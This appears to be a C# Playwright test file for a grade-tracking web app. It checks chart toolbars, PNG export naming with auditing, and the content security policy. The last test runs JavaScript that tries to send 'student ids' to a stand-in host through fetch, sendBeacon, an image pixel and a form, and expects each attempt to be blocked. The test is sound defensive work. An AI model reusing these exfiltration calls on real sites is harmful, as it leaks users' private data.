using System.Text.Json;
using Microsoft.Playwright;
using Xunit.Abstractions;

namespace GradeLens.Browser.Tests;

/// <summary>No path off the server: every chart's toolbar, the downloads, and the content security policy, in headless Chromium.</summary>
public sealed class ChartToolbarTests(Chromium chromium, ITestOutputHelper output) : IClassFixture<Chromium>
{
    // Every chart on the page: its mode bar's buttons and the Plotly settings that could send it elsewhere.
    private const string Toolbars = """
        () => [...document.querySelectorAll('.js-plotly-plot')].filter(gd => !gd.hidden).map(gd => ({
            id: gd.id, file: gd.dataset.file || '', logos: gd.querySelectorAll('.modebar-btn--logo').length,
            buttons: [...gd.querySelectorAll('.modebar-btn')].map(b => b.getAttribute('data-title') || ''),
            cloud: gd._context.showSendToCloud, logo: gd._context.displaylogo, server: gd._context.plotlyServerURL }))
        """;

    // Every visible piece of text on the page (HTML and the charts' SVG) drawn under 12 px.
    private const string SmallText = """
        () => { const small = [], walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
                while (walker.nextNode()) {
                  const text = walker.currentNode.textContent.trim(), parent = walker.currentNode.parentElement;
                  if (!text || !parent || parent.closest('script, style, [hidden]')) continue;
                  const box = parent.getBoundingClientRect();
                  if (box.width === 0 && box.height === 0) continue;
                  const size = parseFloat(getComputedStyle(parent).fontSize);
                  if (size < 12) small.push(`${size}px "${text.slice(0, 40)}"`); }
                return small; }
        """;

    [BrowserFact]
    public async Task Every_chart_keeps_a_named_png_zoom_and_reset_and_offers_no_share_edit_or_send_button_and_no_label_is_under_12_px()
    {
        await using var server = await GeneratedCohort.StartAsync();
        var page = await chromium.NewPageAsync();
        var errors = new List<string>();
        page.PageError += (_, error) => errors.Add(error);

        foreach (var (title, path) in PageSettled.ChartPages("S001"))
        {
            await page.GotoAsync(server.Url(path));
            await PageSettled.WaitAsync(page);
            var charts = (await page.EvaluateAsync<JsonElement>(Toolbars)).EnumerateArray().ToList();
            // A page with nothing to chart in this data (Overlap: no priority cohort) says so instead of drawing an empty chart.
            Assert.True(charts.Count > 0 || await page.Locator("main .note:visible").CountAsync() > 0, $"{title} drew no chart and says nothing");
            foreach (var chart in charts)
            {
                var where = $"{title} #{chart.GetProperty("id").GetString()}";
                var buttons = chart.GetProperty("buttons").EnumerateArray().Select(b => b.GetString()!).ToList();
                Assert.True(buttons.Count > 0, $"{where} has no toolbar");
                Assert.DoesNotContain(buttons, b => new[] { "Share", "Edit in Chart Studio", "Send", "Cloud", "JSON" }.Any(word => b.Contains(word, StringComparison.OrdinalIgnoreCase)));
                Assert.Contains("Download plot as a PNG", buttons);
                Assert.Contains("Zoom", buttons);
                Assert.Contains("Reset axes", buttons);
                Assert.Equal(0, chart.GetProperty("logos").GetInt32());
                Assert.False(chart.GetProperty("cloud").GetBoolean(), where);
                Assert.False(chart.GetProperty("logo").GetBoolean(), where);
                Assert.Equal("", chart.GetProperty("server").GetString());
                Assert.Matches("^gradelens-[\\p{L}\\p{N}]+(-[\\p{L}\\p{N}]+)+$", chart.GetProperty("file").GetString());
            }

            Assert.True(await page.Locator("button.png-export").CountAsync() >= (charts.Count > 0 ? 1 : 0), $"{title} offers no PNG download");
            var small = await page.EvaluateAsync<string[]>(SmallText);
            Assert.True(small.Length == 0, $"{title}: {string.Join("; ", small.Take(10))}");
            await PageEvidence.ScreenshotAsync(page, "toolbar-" + title.ToLowerInvariant(), output);
        }

        Assert.True(errors.Count == 0, string.Join("\n", errors));
    }

    [BrowserFact]
    public async Task A_charts_png_downloads_under_a_name_that_says_what_it_shows_from_its_button_and_its_toolbar_and_is_audited()
    {
        await using var server = await GeneratedCohort.StartAsync();
        var page = await chromium.NewPageAsync();
        await page.GotoAsync(server.Url("/tracking"));
        await page.Locator("#series-table table.series-boxes").WaitForAsync();
        var subject = (await page.Locator("#subject").InputValueAsync()).ToLowerInvariant();
        var expected = $"gradelens-tracking-{subject}.png";

        var fromButton = await page.RunAndWaitForDownloadAsync(() => page.Locator("#series-table button.png-export").ClickAsync());
        Assert.Equal(expected, fromButton.SuggestedFilename);
        Assert.True(new FileInfo(await fromButton.PathAsync()).Length > 10_000, "the PNG is nearly empty");

        await page.Locator("#series-chart").HoverAsync(new LocatorHoverOptions { Position = new Position { X = 30, Y = 30 } });
        var fromToolbar = await page.RunAndWaitForDownloadAsync(() =>
            page.Locator("#series-chart .modebar-btn[data-title='Download plot as a PNG']").ClickAsync());
        Assert.Equal(expected, fromToolbar.SuggestedFilename);

        var audit = await server.Store.Accounts.ReadAuditAsync(50);
        for (var i = 0; i < 20 && audit.Count(a => a.Action == "export" && a.Detail.StartsWith(expected, StringComparison.Ordinal)) < 2; i++)
        {
            await Task.Delay(100);
            audit = await server.Store.Accounts.ReadAuditAsync(50);
        }

        Assert.Equal(2, audit.Count(a => a.Action == "export" && a.Detail.StartsWith($"{expected} from /tracking", StringComparison.Ordinal)));
    }

    [BrowserFact]
    public async Task The_content_security_policy_leaves_a_page_no_way_to_send_data_to_another_origin()
    {
        await using var server = await LiveServer.StartAsync();
        var page = await chromium.NewPageAsync();

        var response = await page.GotoAsync(server.Url("/tracking"));
        var policy = response!.Headers["content-security-policy"];
        var directives = policy.Split(';', StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries)
            .Select(d => d.Split(' ', StringSplitOptions.RemoveEmptyEntries)).ToDictionary(d => d[0], d => d[1..]);
        Assert.Equal(["'self'"], directives["default-src"]);
        Assert.Equal(["'self'"], directives["connect-src"]);
        Assert.Equal(["'self'"], directives["form-action"]);
        Assert.Equal(["'self'"], directives["script-src"]);
        Assert.Equal(["'none'"], directives["object-src"]);
        Assert.Equal(["'none'"], directives["frame-ancestors"]);
        Assert.DoesNotContain("*", policy, StringComparison.Ordinal);
        // Only this server, data: and blob: (the PNG downloads): no host, scheme or wildcard source anywhere.
        Assert.All(directives.Values.SelectMany(sources => sources), source => Assert.Contains(source, new[] { "'self'", "'none'", "'unsafe-inline'", "data:", "blob:" }));

        // And the browser enforces it: a fetch, a beacon, an image and a form to another origin are each refused.
        var refused = await page.EvaluateAsync<string[]>("""
            async () => { const refused = [];
                          document.addEventListener('securitypolicyviolation', e => refused.push(e.effectiveDirective));
                          await fetch('http://127.0.0.2:9/upload', { method: 'POST', body: 'student ids', mode: 'no-cors' }).catch(() => {});
                          navigator.sendBeacon('http://127.0.0.2:9/beacon', 'student ids');
                          new Image().src = 'http://127.0.0.2:9/pixel?student=ids';
                          const form = document.createElement('form');
                          form.method = 'post'; form.action = 'http://127.0.0.2:9/form';
                          document.body.append(form); form.submit();
                          await new Promise(resolve => setTimeout(resolve, 1000));
                          return refused; }
            """);
        Assert.Equal(["connect-src", "form-action", "img-src"], refused.Distinct().Order(StringComparer.Ordinal));
        Assert.Equal(server.Url("/tracking"), page.Url);
    }
}
